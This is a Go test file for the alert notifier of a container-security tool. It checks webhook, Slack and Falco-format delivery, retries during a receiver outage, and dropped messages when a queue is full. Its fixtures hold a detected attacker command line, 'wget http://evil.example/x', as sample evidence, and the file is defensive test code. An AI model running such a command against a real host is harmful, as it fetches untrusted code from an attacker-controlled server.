package notify

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/containsec/contain/internal/falcojson"
	"github.com/containsec/contain/internal/testenv"
	"github.com/containsec/contain/schemas/containv1"
)

// TestWebhookOutput: alerts and actions reach a webhook as the generic
// JSON document, once each; a quarantine carries the alert's evidence,
// the snapshot summary and the release command; skipped actions and
// alerts under notify.min_score are not pushed.
func TestWebhookOutput(t *testing.T) {
	js := startBus(t)
	rcv := newReceiver()
	srv := httptest.NewServer(rcv)
	defer srv.Close()
	nf, _ := runNotifier(t, js, Config{Alerts: true, MinScore: 0.5, Outputs: []OutputConfig{
		{Name: "hook", Type: TypeWebhook, URL: srv.URL, Headers: map[string]string{"Authorization": "Bearer x"}}}})

	alert := alertEvent(0.95)
	low := alertEvent(0.2)
	publish(t, js, containv1.AlertsSubject(testHost), alert, low)
	testenv.WaitFor(t, 10*time.Second, "the alert", func() bool { return rcv.len() >= 1 })
	publish(t, js, containv1.ActionsSubject(testHost),
		actionEvent(alert, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_OK, snapshotDetail),
		actionEvent(low, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_SKIPPED, `{"decision":"below threshold"}`),
		actionEvent(alert, containv1.Action_TYPE_RELEASE, containv1.Action_RESULT_OK, `{"decision":"released"}`),
		actionEvent(alert, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_FAILED, `{"decision":"refused: not a container: cgroup /"}`))
	testenv.WaitFor(t, 10*time.Second, "4 notifications", func() bool { return rcv.len() >= 4 })
	testenv.WaitFor(t, 5*time.Second, "4 deliveries counted", func() bool { d, _, _ := nf.count("hook"); return d >= 4 })
	time.Sleep(300 * time.Millisecond)
	got := decoded[Notification](t, rcv)
	if len(got) != 4 {
		t.Fatalf("received %d notifications, want 4 (alert, quarantine, release, refused)", len(got))
	}
	kinds := map[string]Notification{}
	for _, n := range got {
		kinds[n.Kind] = n
	}
	a := kinds[KindAlert]
	if a.Score != 0.95 || a.Rule != "exec.unseen" || a.Priority != "Critical" || a.Container.ID != testContainer ||
		strings.Join(a.Mitre, ",") != "T1059,T1105" || a.Process == nil || a.Process.PID != 4242 || a.Process.Exe != "/usr/bin/wget" {
		t.Errorf("alert: %+v", a)
	}
	q, ok := kinds[KindQuarantine]
	switch {
	case !ok:
		t.Fatalf("no quarantine notification: %+v", got)
	case q.AlertID != containv1.FormatID(alert.Id) || len(q.Reasons) != 2 || strings.Join(q.Mitre, ",") != "T1059,T1105":
		t.Errorf("quarantine lacks the alert's evidence: %+v", q)
	case q.Process == nil || q.Process.Comm != "wget":
		t.Errorf("quarantine lacks the process: %+v", q.Process)
	case q.Snapshot == nil || q.Snapshot.Processes != 2 || q.Snapshot.Sockets != 1 || q.Snapshot.ChangedFiles != 1 || !strings.Contains(q.Snapshot.Top[0], "wget http://evil.example/x"):
		t.Errorf("quarantine snapshot summary: %+v", q.Snapshot)
	case q.Container.Pod != "web-7d4b9c8f6d-x2x9q" || q.Container.Namespace != "shop" || q.Container.Labels["app"] != "web":
		t.Errorf("quarantine lacks the pod: %+v", q.Container)
	case q.ReleaseCommand != "contain release "+testContainer+" --reason 'REASON'":
		t.Errorf("release command: %q", q.ReleaseCommand)
	case q.Action == nil || q.Action.Actor != "responder@"+testHost || q.Action.LatencyMs != 7:
		t.Errorf("action: %+v", q.Action)
	}
	if _, ok := kinds[KindRelease]; !ok {
		t.Error("no release notification")
	}
	if r := kinds[KindRefused]; r.Priority != "Error" {
		t.Errorf("refused: %+v", r)
	}
	rcv.mu.Lock()
	for id, bs := range rcv.bodies {
		if len(bs) != 1 {
			t.Errorf("%s delivered %d times", id, len(bs))
		}
	}
	rcv.mu.Unlock()
	if d, f, dr := nf.count("hook"); d != 4 || f != 0 || dr != 0 {
		t.Errorf("counters delivered %v failed %v dropped %v, want 4 0 0", d, f, dr)
	}
}

// TestSlackPayload: the slack format is a Slack incoming-webhook message
// whose fields carry the evidence and the release command.
func TestSlackPayload(t *testing.T) {
	js := startBus(t)
	rcv := newReceiver()
	srv := httptest.NewServer(rcv)
	defer srv.Close()
	nf, _ := runNotifier(t, js, Config{Alerts: false, Outputs: []OutputConfig{{Type: TypeWebhook, Format: FormatSlack, URL: srv.URL}}})
	alert := alertEvent(0.9)
	publish(t, js, containv1.AlertsSubject(testHost), alert)
	// The alert is kept for its action: handled by the alerts consumer,
	// which runs apart from the actions consumer.
	testenv.WaitFor(t, 10*time.Second, "the alert kept for its action", func() bool { return nf.kept(alert) })
	publish(t, js, containv1.ActionsSubject(testHost), actionEvent(alert, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_OK, snapshotDetail))
	testenv.WaitFor(t, 10*time.Second, "the slack message", func() bool { return rcv.len() >= 1 })
	time.Sleep(200 * time.Millisecond)
	msgs := decoded[Slack](t, rcv)
	if len(msgs) != 1 {
		t.Fatalf("%d messages, want only the quarantine (alerts: false)", len(msgs))
	}
	m := msgs[0]
	if !strings.Contains(m.Text, "contain quarantine") || len(m.Attachments) != 1 || m.Attachments[0].Color == "" {
		t.Fatalf("slack message: %+v", m)
	}
	fields := map[string]string{}
	for _, f := range m.Attachments[0].Fields {
		fields[f.Title] = f.Value
	}
	for title, want := range map[string]string{"Kind": KindQuarantine, "ATT&CK": "T1059, T1105", "Reasons": "exec.unseen (0.90)",
		"Release": "`contain release " + testContainer, "Snapshot": "2 processes, 1 sockets, 1 changed files", "Process": "pid 4242 uid 33 wget"} {
		if !strings.Contains(fields[title], want) {
			t.Errorf("field %s = %q, want it to contain %q", title, fields[title], want)
		}
	}
}

// TestFalcosidekickOutput: a Falcosidekick receives Falco JSON with the
// fields its outputs use.
func TestFalcosidekickOutput(t *testing.T) {
	js := startBus(t)
	rcv := newReceiver()
	srv := httptest.NewServer(rcv)
	defer srv.Close()
	nf, _ := runNotifier(t, js, Config{Alerts: true, Outputs: []OutputConfig{{Name: "sidekick", Type: TypeFalcosidekick, URL: srv.URL + "/"}}})
	alert := alertEvent(0.95)
	publish(t, js, containv1.AlertsSubject(testHost), alert)
	testenv.WaitFor(t, 10*time.Second, "the falco event", func() bool { return rcv.len() >= 1 })
	rcv.mu.Lock()
	body := rcv.bodies[containv1.FormatID(alert.Id)][0]
	rcv.mu.Unlock()
	e, err := falcojson.Unmarshal(body)
	if err != nil {
		t.Fatalf("not Falco JSON: %v\n%s", err, body)
	}
	f := e.OutputFields
	switch {
	case e.Rule != "exec.unseen" || e.Priority != "Critical" || e.Source != falcojson.Source || e.Hostname != testHost:
		t.Errorf("falco event: %+v", e)
	case !strings.Contains(e.Output, "exec.unseen") || e.Time.IsZero():
		t.Errorf("output %q time %v", e.Output, e.Time)
	case f["k8s.pod.name"] != "web-7d4b9c8f6d-x2x9q" || f["k8s.ns.name"] != "shop" || f["container.label[app]"] != "web":
		t.Errorf("kubernetes output_fields: %v", f)
	case f["container.id"] != testContainer || f["proc.name"] != "wget" || f["proc.cmdline"] != "wget http://evil.example/x" || f["contain.score"] != 0.95:
		t.Errorf("output_fields: %v", f)
	case strings.Join(e.Tags, ",") != "contain,alert,T1059,T1105":
		t.Errorf("tags: %v", e.Tags)
	}
	// The receiver has the body before the sender has its response: the
	// counter follows the response.
	testenv.WaitFor(t, 5*time.Second, "the delivery counted", func() bool { d, _, _ := nf.count("sidekick"); return d >= 1 })
	time.Sleep(200 * time.Millisecond)
	if d, _, _ := nf.count("sidekick"); d != 1 {
		t.Errorf("delivered %v, want 1", d)
	}
}

// TestReceiverDownLosesNothing: a webhook that is down for a while
// (CONTAIN_TEST_NOTIFY_OUTAGE, default 3s; CI's acceptance run: 30s) then
// up receives every message exactly once; nothing is counted delivered
// while it is down, and the counters tell what happened.
func TestReceiverDownLosesNothing(t *testing.T) {
	outage := 3 * time.Second
	if v := os.Getenv("CONTAIN_TEST_NOTIFY_OUTAGE"); v != "" {
		d, err := time.ParseDuration(v)
		if err != nil {
			t.Fatalf("CONTAIN_TEST_NOTIFY_OUTAGE: %v", err)
		}
		outage = d
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close() // down: connections are refused

	js := startBus(t)
	nf, _ := runNotifier(t, js, Config{Alerts: true, Outputs: []OutputConfig{{Name: "flaky", Type: TypeWebhook, URL: "http://" + addr,
		Timeout: 500 * time.Millisecond, MaxRetries: 2, Backoff: 50 * time.Millisecond, MaxBackoff: 200 * time.Millisecond, QueueLen: 64}}})
	const n = 30
	want := map[string]bool{}
	for i := range n {
		a := alertEvent(0.5 + float64(i)/100)
		want[containv1.FormatID(a.Id)] = true
		publish(t, js, containv1.AlertsSubject(testHost), a)
	}
	testenv.WaitFor(t, 10*time.Second, "a failed delivery", func() bool { _, f, _ := nf.count("flaky"); return f > 0 })
	time.Sleep(outage)
	if d, _, dr := nf.count("flaky"); d != 0 || dr != 0 {
		t.Fatalf("while the receiver is down: delivered %v dropped %v", d, dr)
	}

	rcv := newReceiver()
	var ln2 net.Listener
	testenv.WaitFor(t, 5*time.Second, "the receiver's port", func() bool { ln2, err = net.Listen("tcp", addr); return err == nil })
	srv := &http.Server{Handler: rcv, ReadHeaderTimeout: time.Second}
	go func() { _ = srv.Serve(ln2) }()
	defer srv.Close()
	testenv.WaitFor(t, outage+60*time.Second, "every message", func() bool { return rcv.len() >= n })
	testenv.WaitFor(t, 10*time.Second, "every delivery counted", func() bool { d, _, _ := nf.count("flaky"); return d >= n })
	// Nothing more arrives: each was delivered once.
	time.Sleep(time.Second)
	rcv.mu.Lock()
	for id, bs := range rcv.bodies {
		if !want[id] {
			t.Errorf("unexpected id %s", id)
		}
		if len(bs) != 1 {
			t.Errorf("%s delivered %d times", id, len(bs))
		}
	}
	if len(rcv.bodies) != n {
		t.Errorf("%d distinct messages, want %d", len(rcv.bodies), n)
	}
	rcv.mu.Unlock()
	d, f, dr := nf.count("flaky")
	if d != n || dr != 0 || f == 0 {
		t.Errorf("counters: delivered %v (want %d) failed %v (want > 0) dropped %v (want 0)", d, n, f, dr)
	}
	// Every message was acknowledged.
	testenv.WaitFor(t, 10*time.Second, "no unacknowledged alerts", func() bool {
		c, err := js.Consumer(context.Background(), containv1.StreamAlerts, "notify-alerts")
		if err != nil {
			return false
		}
		ci, err := c.Info(context.Background())
		return err == nil && ci.NumAckPending == 0 && ci.NumPending == 0
	})
	t.Logf("outage %v: %d delivered after %v failed deliveries", outage, int(d), f)
}

// TestQueueFullDropsCounted: a message that finds an output's queue full
// is dropped, counted and acknowledged; the other outputs still get it.
func TestQueueFullDropsCounted(t *testing.T) {
	js := startBus(t)
	block := make(chan struct{})
	slow := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { <-block }))
	defer slow.Close()
	defer close(block)
	rcv := newReceiver()
	fast := httptest.NewServer(rcv)
	defer fast.Close()
	nf, _ := runNotifier(t, js, Config{Alerts: true, Outputs: []OutputConfig{
		{Name: "slow", Type: TypeWebhook, URL: slow.URL, QueueLen: 1, MaxInFlight: 1, Timeout: 2 * time.Second, MaxRetries: 1, Backoff: 10 * time.Millisecond},
		{Name: "fast", Type: TypeWebhook, URL: fast.URL}}})
	var evs []*containv1.Event
	for range 5 {
		evs = append(evs, alertEvent(0.9))
	}
	publish(t, js, containv1.AlertsSubject(testHost), evs...)
	testenv.WaitFor(t, 10*time.Second, "the fast output", func() bool { return rcv.len() >= 5 })
	_, _, dropped := nf.count("slow")
	if dropped < 3 {
		t.Errorf("slow output dropped %v, want >= 3 of 5 (queue 1, one in flight)", dropped)
	}
}

func FuzzDecodeDetail(f *testing.F) {
	f.Add(snapshotDetail)
	f.Add(`{"decision":"x","snapshot":{"processes":[{"argv":["\u00e9"]}]}}`)
	f.Add("not json")
	f.Fuzz(func(t *testing.T, s string) {
		decision, _, snap := decodeDetail(s)
		if len(decision) > len(s)+4 {
			t.Fatalf("decision longer than its input")
		}
		if snap != nil && (len(snap.Top) > summaryItems || len(snap.Listening) > summaryItems || len(snap.FilesChanged) > summaryItems) {
			t.Fatalf("summary not bounded: %+v", snap)
		}
	})
}
